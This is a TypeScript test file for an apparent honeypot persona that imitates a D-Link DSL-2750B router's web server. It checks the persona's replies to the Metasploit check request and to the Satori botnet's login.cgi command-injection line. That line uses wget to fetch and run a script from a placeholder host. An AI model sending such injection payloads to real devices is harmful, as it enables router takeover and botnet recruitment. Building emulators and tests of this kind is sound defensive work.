import { describe, expect, it } from "vitest";
import { DLINK_SERVER, dlinkDslPersona } from "./dlink-dsl.js";
import { httpDate } from "./http-answer.js";
import type { PersonaReply } from "./persona.js";
import { bodyText, drive, header, oneResponse, TEST_NOW } from "./persona-fixture.js";

/** The Metasploit module's check request (exploitdb 44760.rb, described in the poc notes). */
const CHECK =
  "GET /ayefeaturesconvert.js HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 9.0)\r\n\r\n";
/** Satori's exploit line of June 2018, its download host moved to a documentation address. */
const SATORI =
  "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n";

function only(replies: PersonaReply[]) {
  expect(replies).toHaveLength(1);
  return oneResponse(replies[0] as PersonaReply);
}

describe("dlink-dsl persona", () => {
  it("passes the Metasploit check: DSL-2750 and firmware 1.03 in ayefeaturesconvert.js", () => {
    const replies = drive(dlinkDslPersona, [CHECK]);
    const res = only(replies);
    expect(res.status).toBe(200);
    expect(header(res, "server")).toBe(DLINK_SERVER);
    expect(bodyText(res)).toContain("DSL-2750");
    expect(bodyText(res)).toContain('var AYECOM_FWVER="1.03";');
    expect(bodyText(res)).toMatch(/AYECOM_FWVER="1\.0[1-3]"/);
    expect(replies[0]?.close).toBe(undefined);
    expect(header(res, "connection")).toBe("Keep-Alive");
  });

  it("uses Boa's header order, HTTP/1.0, and the context's clock", () => {
    const res = only(drive(dlinkDslPersona, ["GET / HTTP/1.0\r\n\r\n"]));
    expect(res.version).toBe("HTTP/1.0");
    expect(res.headers.map(([n]) => n)).toEqual([
      "Date",
      "Server",
      "Accept-Ranges",
      "Connection",
      "Content-Length",
      "Last-Modified",
      "Content-Type",
    ]);
    expect(header(res, "date")).toBe(httpDate(TEST_NOW));
    expect(bodyText(res)).toContain("<title>D-Link DSL-2750B</title>");
    expect(bodyText(res)).toContain("Product Page : DSL-2750B");
  });

  it("answers the login.cgi cli injection like the CGI, keeping the connection", () => {
    const replies = drive(dlinkDslPersona, [SATORI, CHECK]);
    expect(replies.map((r) => oneResponse(r).status)).toEqual([200, 200]);
    expect(bodyText(oneResponse(replies[0] as PersonaReply))).toContain("index.html");
  });

  it("404s unknown paths with the path escaped, and closes", () => {
    const replies = drive(dlinkDslPersona, ["GET /<script>x</script> HTTP/1.1\r\nHost: x\r\n\r\n"]);
    const res = only(replies);
    expect(res.status).toBe(404);
    expect(bodyText(res)).toContain("&#60;script&#62;");
    expect(bodyText(res)).not.toContain("<script>");
    expect(replies[0]?.close).toBe(true);
  });

  it("listens on 80 and 8080", () => {
    expect(dlinkDslPersona.ports).toEqual([80, 8080]);
  });
});
